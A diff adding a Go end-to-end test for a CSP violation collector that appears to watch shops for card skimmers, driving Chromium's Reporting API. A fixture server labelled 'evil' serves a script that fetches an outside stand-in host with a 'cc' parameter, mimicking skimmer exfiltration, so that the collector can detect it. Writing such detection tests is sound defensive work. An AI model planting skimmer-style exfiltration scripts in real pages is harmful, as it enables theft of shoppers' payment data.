@@ -3,9 +3,12 @@ package collector_test
 import (
 	"context"
 	"net"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -161,4 +164,90 @@ func visit(t *testing.T, ctx context.Context, b *browser.Browser, url string) {
 	// Reports are sent asynchronously after the violation; give the page a
 	// moment before its context is disposed.
 	time.Sleep(time.Second)
+}
+
+// TestReportingAPIFromChromium checks the Reporting API path end to end:
+// an https page with Reporting-Endpoints and report-to, real Chromium (which
+// sends report-to reports only between https origins, after a CORS
+// preflight), and the collector behind TLS.
+func TestReportingAPIFromChromium(t *testing.T) {
+	if testing.Short() {
+		t.Skip("needs Chromium; skipped with -short")
+	}
+	if _, err := browser.FindChromium(""); err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatalf("CI=true but %v", err)
+		}
+		t.Skipf("skipping: %v", err)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "s.db"), sqlite.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	const key = "api-site-key-0123456789abcdef"
+	c, err := collector.New(db, collector.Options{Sites: []collector.Site{{Name: "shop", Key: key}}, FlushInterval: 50 * time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	runCtx, stopRun := context.WithCancel(ctx)
+	ran := make(chan error, 1)
+	go func() { ran <- c.Run(runCtx) }()
+	var preflights atomic.Int64
+	coll := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method == http.MethodOptions {
+			preflights.Add(1)
+		}
+		c.Handler().ServeHTTP(w, r)
+	}))
+	defer func() {
+		coll.Close() // handlers done before the aggregator's final flush
+		stopRun()
+		if err := <-ran; err != nil {
+			t.Error(err)
+		}
+	}()
+	endpoint := coll.URL + "/r/" + key
+	evil := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/javascript")
+		w.Write([]byte("fetch('" + "https://localhost:1/c?cc=1').catch(() => 0);"))
+	}))
+	defer evil.Close()
+	shop := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Reporting-Endpoints", `skimwatch="`+endpoint+`"`)
+		w.Header().Set("Content-Security-Policy-Report-Only", "default-src 'self'; script-src 'self'; report-to skimwatch")
+		w.Header().Set("Content-Type", "text/html")
+		w.Write([]byte(`<html><body><script src="` + evil.URL + `/lib.js"></script></body></html>`))
+	}))
+	defer shop.Close()
+
+	b, err := browser.Launch(ctx, browser.Options{ExtraFlags: []string{"--ignore-certificate-errors", "--short-reporting-delay"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer b.Close()
+	visit(t, ctx, b, shop.URL+"/checkout?token=secret")
+
+	var got *store.StoredFinding
+	for deadline := time.Now().Add(30 * time.Second); got == nil && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+		fs, err := db.Findings(ctx, store.FindingQuery{Site: "shop"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, f := range fs {
+			if f.Kind == "csp.unapproved-script" && f.Evidence["blocked"] == evil.URL {
+				got = &fs[i]
+			}
+		}
+	}
+	if got == nil {
+		t.Fatalf("no finding from the Reporting API; stats %+v, preflights %d", c.Stats(), preflights.Load())
+	}
+	sample := got.Evidence["sample_reports"].([]any)[0].(map[string]any)
+	if sample["format"] != "reports+json" || strings.Contains(sample["document_url"].(string), "secret") {
+		t.Errorf("sample %v: want the reports+json format and no query", sample)
+	}
+	t.Logf("finding from Chromium's Reporting API batch: %s (preflights %d)", got.Message, preflights.Load())
 }
